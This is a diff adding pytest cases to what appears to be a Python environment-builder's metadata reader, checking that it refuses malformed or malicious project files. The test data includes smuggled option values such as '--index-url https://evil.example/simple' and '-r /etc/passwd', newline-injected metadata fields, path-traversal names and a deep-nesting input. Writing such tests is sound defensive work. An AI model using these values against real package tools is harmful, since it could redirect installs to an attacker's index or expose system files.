@@ -6,6 +6,7 @@ from pathlib import Path
 
 import pytest
 
+from envbuilder.core.errors import UsageError
 from envbuilder.core.processor import X86_64
 from envbuilder.core.sources import Sources
 from envbuilder.lock.resolve import make_target
@@ -55,6 +56,31 @@ def test_a_project_is_read_and_never_run(
 ) -> None:
     said = read_distribution("it", {name: text.encode() for name, text in files.items()})
     assert (said.name, said.version, said.requires) == found
+
+
+DEEP = "[" * 100_000
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("pyproject.toml", f"project = {DEEP}"), ("pyproject.toml", f"a = {'9' * 6000}"), ("pyproject.toml", "project = 5\ntool = 5"),
+        ("pyproject.toml", "[project]\ndependencies = 5"), ("pyproject.toml", "[tool]\nsetuptools = 5\n[project]\nname = 'x'"),
+        ("pyproject.toml", "[project]\ndependencies = ['--index-url https://evil.example/simple']"),
+        ("pyproject.toml", '[project]\ndependencies = ["numpy\\n--index-url https://evil.example/simple"]'),
+        ("PKG-INFO", "Metadata-Version: 2.2\nName: x\nVersion: 1\nRequires-Dist: -r /etc/passwd\n"),
+        ("setup.py", SETUP + "setup(install_requires=['-r /etc/passwd'])"),
+    ],
+)  # fmt: skip
+def test_what_a_project_says_of_itself_is_refused_where_it_is_no_requirement(name: str, text: str):
+    with pytest.raises(UsageError, match="the project of the extension `it` says of itself cannot be read"):
+        read_distribution("it", {name: text.encode()})
+
+
+@pytest.mark.parametrize("name", ["/tmp/evil", "../evil", "a/b", "x\\nRequires-Dist: evil", "-x", "", "."])
+def test_a_name_that_is_none_names_no_file_of_this_machine(tmp_path: Path, name: str):
+    text = f'[project]\nname = "{name}"\nversion = "1.0"\n'
+    assert read_distribution("it", {"pyproject.toml": text.encode()}).name == ""
 
 
 OWN = Distribution(
